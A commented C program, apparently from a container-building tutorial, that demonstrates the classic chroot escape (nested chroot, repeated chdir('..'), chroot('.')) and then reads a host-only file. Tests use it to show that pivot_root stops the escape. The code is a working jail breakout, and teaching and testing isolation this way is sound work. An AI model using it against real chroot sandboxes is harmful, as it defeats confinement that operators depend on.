/* escape.c: the classic way out of a chroot, for step05's chapter.
 *
 * Usage: escape FILE   (FILE: a path that exists only on the host)
 *
 * chroot(2) changes a process's root directory and nothing else: not its
 * working directory, and not the mount namespace, where the host's whole
 * tree is still mounted. A process that is root (CAP_SYS_CHROOT) inside can
 * use that: chroot into a subdirectory leaves its working directory *outside*
 * the new root, and ".." is stopped only at one's root directory, so enough
 * chdir("..") reach the real root, and chroot(".") makes it ours again.
 *
 * Under pivot_root with the old root detached, the same moves stop at the
 * container's "/": it is the root mount of the namespace, and no host
 * directory is left above it. The tests compile this file statically (the
 * Alpine rootfs has musl, not the host's C library) and copy it into a rootfs.
 */
#define _DEFAULT_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

// ANCHOR: escape
int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: escape FILE (a file that exists only on the host)\n");
        return 2;
    }
    /* 1. A root below us: our working directory is now outside our root. */
    if (mkdir("escape-hatch", 0700) != 0 && errno != EEXIST) {
        perror("escape: mkdir escape-hatch");
        return 1;
    }
    if (chroot("escape-hatch") != 0) {
        perror("escape: chroot escape-hatch");
        return 1;
    }
    printf("escape: chroot(\"escape-hatch\"): our root is below our working directory now\n");
    /* 2. Up: ".." stops at our root, and we are not under it any more. */
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) {
            perror("escape: chdir ..");
            return 1;
        }
    }
    /* 3. Wherever we stopped becomes our root. */
    if (chroot(".") != 0) {
        perror("escape: chroot .");
        return 1;
    }
    printf("escape: chdir(\"..\") 64 times, then chroot(\".\")\n");
    /* 4. Is the host's file in reach? */
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) {
        printf("escape: failed: %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    char text[256];
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    text[n > 0 ? n : 0] = '\0';
    printf("escape: out! %s says: %s", argv[1], text);
    return 0;
}
// ANCHOR_END: escape
